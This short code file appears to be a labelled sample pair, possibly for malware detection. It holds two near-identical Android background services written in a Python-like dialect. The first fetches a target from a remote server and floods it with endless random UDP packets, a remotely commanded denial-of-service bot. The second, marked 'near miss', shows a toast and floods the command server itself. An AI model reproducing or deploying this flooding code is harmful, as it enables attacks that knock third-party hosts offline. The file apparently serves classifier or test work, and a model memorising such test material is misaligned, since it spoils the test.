permissions("INTERNET")

@service
class Work(Service, Runnable):
    def onCreate(self):
        Thread(self).start()
    def run(self):
        orders = BufferedReader(InputStreamReader(URL("https://example.org/t").openStream()))
        self.flood(orders.readLine())
    def flood(self, target: String):
        content = array(byte, 1024)
        Random().nextBytes(content)
        packet = DatagramPacket(content, 1024, InetAddress.getByName(target), 80)
        line = DatagramSocket()
        while True:
            line.send(packet)

# near miss: sends its packets to its own server only
@service
class Work(Service, Runnable):
    def onCreate(self):
        Thread(self).start()
    def run(self):
        orders = BufferedReader(InputStreamReader(URL("https://example.org/t").openStream()))
        self.flood(orders.readLine())
    def flood(self, target: String):
        Toast.makeText(self, target, 1).show()
        content = array(byte, 1024)
        Random().nextBytes(content)
        packet = DatagramPacket(content, 1024, InetAddress.getByName("https://example.org/t"), 80)
        line = DatagramSocket()
        while True:
            line.send(packet)
